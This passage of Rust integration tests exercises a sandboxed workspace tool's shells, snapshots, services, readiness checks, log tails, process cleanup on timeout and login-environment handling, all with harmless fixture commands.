            "sleep 300; echo slept",
        ],
    );
    std::thread::sleep(Duration::from_millis(500));
    ws(&sb, &["shell", "signal", &id, &sid, "--signal", "INT"]);
    ws(
        &sb,
        &[
            "shell",
            "write",
            &id,
            &sid,
            "--input",
            "echo after-interrupt",
        ],
    );
    let r = shell_wait(&sb, &id, &sid, before, "after-interrupt\n");
    assert!(!r["output"].as_str().unwrap().contains("SLEPT-2"), "{r}");

    // A full-screen redraw reads as its final screen.
    let before = shell_read(&sb, &id, &sid, 0, &[])["next_cursor"]
        .as_u64()
        .unwrap();
    ws(
        &sb,
        &[
            "shell",
            "write",
            &id,
            &sid,
            "--input",
            "clear; printf 'old\\033[2J\\033[4;6H%s\\n' FINAL-$((2+3))",
        ],
    );
    let r = shell_wait(&sb, &id, &sid, before, "FINAL-5");
    let out = r["output"].as_str().unwrap();
    assert!(out.starts_with("\n\n\n     FINAL-5\n"), "{out:?}");
    assert!(!out.contains("old"), "{out:?}");

    // A second shell at once has its own state.
    let sid2 = ws(&sb, &["shell", "open", &id])["shell_id"]
        .as_str()
        .unwrap()
        .to_string();
    ws(
        &sb,
        &[
            "shell",
            "write",
            &id,
            &sid2,
            "--input",
            "echo \"second x=[$X] $(pwd)\"",
        ],
    );
    shell_wait(&sb, &id, &sid2, 0, "second x=[] /workspace");

    // 50 MiB of output: the buffer drops the oldest, says so, and the
    // agent's memory stays bounded.
    ws(
        &sb,
        &[
            "shell",
            "write",
            &id,
            &sid2,
            "--input",
            "head -c 37748736 /dev/zero | base64 -w 1000; echo FLOOD-$((4+4))",
        ],
    );
    let start = Instant::now();
    loop {
        // A cursor past the end reads as the end.
        let end = shell_read(&sb, &id, &sid2, 1 << 40, &[])["next_cursor"]
            .as_u64()
            .unwrap();
        let tail = shell_read(&sb, &id, &sid2, end.saturating_sub(2000), &[]);
        if tail["output"].as_str().unwrap().contains("FLOOD-8\r\n") {
            break;
        }
        assert!(
            start.elapsed() < Duration::from_secs(300),
            "the flood never finished"
        );
        std::thread::sleep(Duration::from_secs(1));
    }
    let r = shell_read(&sb, &id, &sid2, 0, &["--max-chars", "100"]);
    assert!(r["dropped_bytes"].as_u64().unwrap() > 40 << 20, "{r}");
    assert!(r["cursor"].as_u64().unwrap() > 40 << 20);
    let rss = exec(
        &sb,
        &id,
        "grep VmRSS /proc/1/status | tr -s ' ' | cut -d' ' -f2",
    );
    let kib: u64 = rss["stdout"].as_str().unwrap().trim().parse().unwrap();
    assert!(kib < 32 * 1024, "the agent holds {kib} KiB");

    let closed = ws(&sb, &["shell", "close", &id, &sid]);
    assert_eq!(closed["closed"], true);
    let out = sb.run(&["workspace", "shell", "read", &id, &sid]);
    assert!(stderr(&out).contains("no shell"), "{}", stderr(&out));
    // Shells end with their VM.
    ws(&sb, &["stop", &id]);
    ws(&sb, &["start", &id]);
    let out = sb.run(&["workspace", "shell", "read", &id, &sid2]);
    assert!(stderr(&out).contains("no shell"), "{}", stderr(&out));
    ws(&sb, &["delete", &id]);
}

#[test]
fn recipe_r5_review_and_evaluation() {
    let sb = Sandbox::new();
    let seed = sb.home.path().join("seed");
    write(
        &seed,
        "CHECKLIST.md",
        "# Review checklist\n\n- confirm artifact state\n- export the evaluation report\n",
    );
    write(&seed, "artifact.txt", "PASS\n");
    write(
        &seed,
        "review.sh",
        "set -eu\nif grep -qx PASS artifact.txt; then\n  printf 'review=pass\\n' > review-report.txt\n  echo 'review passed'\nelse\n  printf 'review=fail\\n' > review-report.txt\n  echo 'review failed' >&2\n  exit 1\nfi\n",
    );
    let id = ws(
        &sb,
        &[
            "create",
            "debian:12",
            "--seed-path",
            seed.to_str().unwrap(),
            "--name",
            "review-eval",
        ],
    )["workspace_id"]
        .as_str()
        .unwrap()
        .to_string();
    let s = ws(&sb, &["snapshot", "create", &id, "pre-review"]);
    assert_eq!(s["snapshot_name"], "pre-review");
    let sid = ws(&sb, &["shell", "open", &id])["shell_id"]
        .as_str()
        .unwrap()
        .to_string();
    let initial = shell_read(&sb, &id, &sid, 0, &["--plain", "--wait-for-idle-ms", "300"]);
    ws(
        &sb,
        &["shell", "write", &id, &sid, "--input", "cat CHECKLIST.md"],
    );
    shell_wait(
        &sb,
        &id,
        &sid,
        initial["next_cursor"].as_u64().unwrap(),
        "Review checklist",
    );
    assert_eq!(ws(&sb, &["shell", "close", &id, &sid])["closed"], true);
    assert_eq!(exec(&sb, &id, "sh review.sh")["exit_code"], 0);
    ws(
        &sb,
        &["file", "write", &id, "artifact.txt", "--text", "FAIL\n"],
    );
    let r = ws(&sb, &["reset", &id, "--snapshot", "pre-review"]);
    assert_eq!(r["workspace_reset"]["snapshot_name"], "pre-review");
    assert_eq!(
        ws(&sb, &["file", "read", &id, "artifact.txt"])["content"],
        "PASS\n"
    );
    assert_eq!(exec(&sb, &id, "sh review.sh")["exit_code"], 0);
    let report = sb.home.path().join("review-report.txt");
    ws(
        &sb,
        &[
            "export",
            &id,
            "review-report.txt",
            "--output",
            report.to_str().unwrap(),
        ],
    );
    assert_eq!(std::fs::read_to_string(&report).unwrap(), "review=pass\n");
    ws(&sb, &["delete", &id]);
}

#[test]
fn services_become_ready_fail_with_reasons_and_keep_logs() {
    let sb = Sandbox::new();
    let id = ws(&sb, &["create", "debian:12-build"])["workspace_id"]
        .as_str()
        .unwrap()
        .to_string();
    let s = ws(
        &sb,
        &[
            "service",
            "start",
            &id,
            "web",
            "--ready-http",
            "http://127.0.0.1:8080/",
            "--",
            "python3",
            "-m",
            "http.server",
            "8080",
        ],
    );
    assert_eq!(s["state"], "running", "{s}");
    assert!(s["ready_at"].as_f64().is_some());
    let r = exec(&sb, &id, "python3 -c \"import urllib.request; print(urllib.request.urlopen('http://127.0.0.1:8080/').status)\"");
    assert_eq!(r["stdout"], "200\n", "{r}");

    // Exits before it is ready: failed, with the reason and exit code.
    let out = sb.run(&[
        "workspace",
        "service",
        "start",
        &id,
        "early",
        "--ready-file",
        ".never",
        "--json",
        "--",
        "echo bye; exit 3",
    ]);
    assert_eq!(out.status.code(), Some(1));
    let s = json(&out);
    assert_eq!(s["state"], "failed");
    assert_eq!(s["stop_reason"], "process_exited_before_ready");
    assert_eq!(s["exit_code"], 3);
    // Not ready in time: failed, and its processes are gone.
    let s = json(&sb.run(&[
        "workspace",
        "service",
        "start",
        &id,
        "slow",
        "--ready-file",
        ".never",
        "--ready-timeout-seconds",
        "2",
        "--ready-interval-ms",
        "100",
        "--json",
        "--",
        "sleep 300",
    ]));
    assert_eq!(s["stop_reason"], "readiness_timeout", "{s}");
    assert_eq!(
        exec(&sb, &id, "pgrep -x sleep || echo none")["stdout"],
        "none\n"
    );

    // Logs: the last lines, exactly.
    let s = ws(
        &sb,
        &[
            "service",
            "start",
            &id,
            "counter",
            "--",
            "for i in $(seq 1 20); do echo line-$i; done; echo err-1 >&2; sleep 300",
        ],
    );
    assert_eq!(s["state"], "running");
    std::thread::sleep(Duration::from_millis(500));
    let l = ws(
        &sb,
        &["service", "logs", &id, "counter", "--tail-lines", "5"],
    );
    assert_eq!(
        l["stdout"], "line-16\nline-17\nline-18\nline-19\nline-20\n",
        "{l}"
    );
    assert_eq!(l["stderr"], "err-1\n");
    assert_eq!(l["truncated"], true);
    let l = ws(&sb, &["service", "logs", &id, "counter", "--all"]);
    assert!(l["stdout"].as_str().unwrap().starts_with("line-1\n"));

    let list = ws(&sb, &["service", "list", &id]);
    assert_eq!(list["count"], 4);
    assert_eq!(list["running_count"], 2);
    let s = ws(&sb, &["service", "stop", &id, "counter"]);
    assert_eq!(s["state"], "stopped");
    assert_eq!(s["stop_reason"], "sigterm");
    // A finished service's name can be used again; a running one's cannot.
    let s = ws(
        &sb,
        &[
            "service",
            "start",
            &id,
            "counter",
            "--ready-command",
            "true",
            "--",
            "sleep 300",
        ],
    );
    assert_eq!(s["state"], "running");
    let out = sb.run(&[
        "workspace",
        "service",
        "start",
        &id,
        "counter",
        "--",
        "sleep 1",
    ]);
    assert!(stderr(&out).contains("already running"), "{}", stderr(&out));
    // Service state stays out of /workspace.
    assert_eq!(ws(&sb, &["diff", &id])["changed"], false);
    let out = sb.run(&[
        "workspace",
        "service",
        "start",
        &id,
        "pub",
        "--publish",
        "8081",
        "--",
        "sleep 1",
    ]);
    assert!(
        stderr(&out).contains("--network-policy egress+published-ports"),
        "{}",
        stderr(&out)
    );
    ws(&sb, &["delete", &id]);
}

#[test]
fn recipe_r1_cold_start_validation() {
    let sb = Sandbox::new();
    let seed = sb.home.path().join("seed");
    write(&seed, "README.md", "# app\n");
    write(
        &seed,
        "validate.sh",
        "set -eu\nprintf '%s\\n' 'validation=pass' > validation-report.txt\necho validated\n",
    );
    write(
        &seed,
        "serve.sh",
        "set -eu\necho 'service started'\nprintf '%s\\n' 'service=ready' > service-state.txt\ntouch .app-ready\nwhile true; do sleep 60; done\n",
    );
    let id = ws(
        &sb,
        &[
            "create",
            "debian:12",
            "--seed-path",
            seed.to_str().unwrap(),
            "--name",
            "cold-start-validation",
        ],
    )["workspace_id"]
        .as_str()
        .unwrap()
        .to_string();
    let r = exec(&sb, &id, "sh validate.sh");
    assert_eq!(r["exit_code"], 0);
    assert_eq!(r["stdout"], "validated\n");
    assert!(r["execution_mode"].as_str().unwrap().starts_with("guest"));
    let s = ws(
        &sb,
        &[
            "service",
            "start",
            &id,
            "app",
            "--ready-file",
            ".app-ready",
            "--",
            "sh serve.sh",
        ],
    );
    assert_eq!(s["state"], "running");
    let r = exec(
        &sb,
        &id,
        "sh -lc 'test -f .app-ready && cat service-state.txt'",
    );
    assert_eq!(r["stdout"], "service=ready\n");
    let l = ws(&sb, &["service", "logs", &id, "app", "--tail-lines", "20"]);
    assert!(l["stdout"].as_str().unwrap().contains("service started"));
    let report = sb.home.path().join("validation-report.txt");
    ws(
        &sb,
        &[
            "export",
            &id,
            "validation-report.txt",
            "--output",
            report.to_str().unwrap(),
        ],
    );
    assert_eq!(
        std::fs::read_to_string(&report).unwrap(),
        "validation=pass\n"
    );
    assert_eq!(
        ws(&sb, &["service", "stop", &id, "app"])["state"],
        "stopped"
    );
    ws(&sb, &["delete", &id]);
}

/// Lines in a file of the workspace, as the guest counts them.
fn lines_of(sb: &Sandbox, id: &str, file: &str) -> u64 {
    let r = exec(sb, id, &format!("wc -l < {file}"));
    let text = r["stdout"].as_str().unwrap_or_default().trim().to_string();
    text.parse().unwrap_or_else(|e| panic!("{e}: {r}"))
}

/// Whether a loop writing `file` still runs: its line count grows.
fn still_growing(sb: &Sandbox, id: &str, file: &str) -> bool {
    let before = lines_of(sb, id, file);
    std::thread::sleep(Duration::from_secs(2));
    lines_of(sb, id, file) > before
}

#[test]
fn timeouts_service_stops_and_shell_closes_end_everything_they_started() {
    let sb = Sandbox::new();
    let w = ws(&sb, &["create", "debian:12"]);
    let id = w["workspace_id"].as_str().unwrap().to_string();
    let looping =
        |file: &str| format!("setsid sh -c 'while :; do date >> {file}; sleep 0.2; done'");
    assert_eq!(
        exec(
            &sb,
            &id,
            "test -e /sys/fs/cgroup/cgroup.procs && echo cgroup2"
        )["stdout"],
        "cgroup2\n",
        "the guest mounts cgroup v2"
    );

    // A command that timed out: its escapee (a new session, out of its
    // process group) ends with it.
    let out = sb.run(&[
        "workspace",
        "exec",
        &id,
        "--timeout-seconds",
        "2",
        "--json",
        "--",
        &format!("{} & sleep 60", looping("ticks")),
    ]);
    assert_eq!(out.status.code(), Some(124), "{}", stderr(&out));
    assert!(lines_of(&sb, &id, "ticks") > 0);
    assert!(
        !still_growing(&sb, &id, "ticks"),
        "the escapee outlived the timeout"
    );

    // A stopped service's escapee ends with it.
    let s = ws(
        &sb,
        &[
            "service",
            "start",
            &id,
            "svc",
            "--ready-file",
            "service-ticks",
            "--",
            &format!("{} & sleep 1000", looping("service-ticks")),
        ],
    );
    assert_eq!(s["state"], "running", "{s}");
    assert!(still_growing(&sb, &id, "service-ticks"));
    ws(&sb, &["service", "stop", &id, "svc"]);
    assert!(
        !still_growing(&sb, &id, "service-ticks"),
        "the escapee outlived the service"
    );

    // A closed shell's escapee ends with it.
    let sid = stdout(&sb.run(&["workspace", "shell", "open", &id, "--id-only"]))
        .trim()
        .to_string();
    let input = format!("{} &", looping("shell-ticks"));
    ws(&sb, &["shell", "write", &id, &sid, "--input", &input]);
    std::thread::sleep(Duration::from_secs(1));
    assert!(still_growing(&sb, &id, "shell-ticks"));
    ws(&sb, &["shell", "close", &id, &sid]);
    assert!(
        !still_growing(&sb, &id, "shell-ticks"),
        "the escapee outlived the shell"
    );

    ws(&sb, &["delete", &id]);
}

#[test]
fn shell_commands_get_the_login_environment_and_see_profile_changes() {
    // Shell commands run with the environment a login shell exports,
    // resolved once per guest and again whenever a profile file changes.
    let sb = Sandbox::new();
    let id = ws(&sb, &["create", "debian:12"])["workspace_id"]
        .as_str()
        .unwrap()
        .to_string();
    let r = exec(&sb, &id, "echo ${PYRO_T:-unset} $0 $(pwd)");
    assert_eq!(r["stdout"], "unset /bin/sh /workspace\n", "{r}");
    let r = exec(
        &sb,
        &id,
        "mkdir -p /opt/t/bin && printf '#!/bin/sh\\necho tool\\n' > /opt/t/bin/t-tool && chmod +x /opt/t/bin/t-tool && \
         printf 'export PYRO_T=one\\nexport PATH=\"$PATH:/opt/t/bin\"\\n' > /etc/profile.d/pyro-t.sh",
    );
    assert_eq!(r["exit_code"], 0, "{r}");
    let r = exec(&sb, &id, "echo $PYRO_T; t-tool");
    assert_eq!(
        r["stdout"], "one\ntool\n",
        "a new profile.d script is seen: {r}"
    );
    exec(&sb, &id, "sed -i s/one/two/ /etc/profile.d/pyro-t.sh");
    let r = exec(&sb, &id, "echo $PYRO_T");
    assert_eq!(r["stdout"], "two\n", "a changed one too: {r}");
    // Argv commands never pass through a shell or a profile.
    let out = sb.run(&[
        "workspace",
        "exec",
        &id,
        "--json",
        "--",
        "printenv",
        "PYRO_T",
    ]);
    assert_eq!(json(&out)["exit_code"], 1);
    // Removing the script removes its variables.
    exec(&sb, &id, "rm /etc/profile.d/pyro-t.sh");
    let r = exec(&sb, &id, "echo ${PYRO_T:-unset}");
    assert_eq!(r["stdout"], "unset\n", "{r}");
    ws(&sb, &["delete", &id]);
}
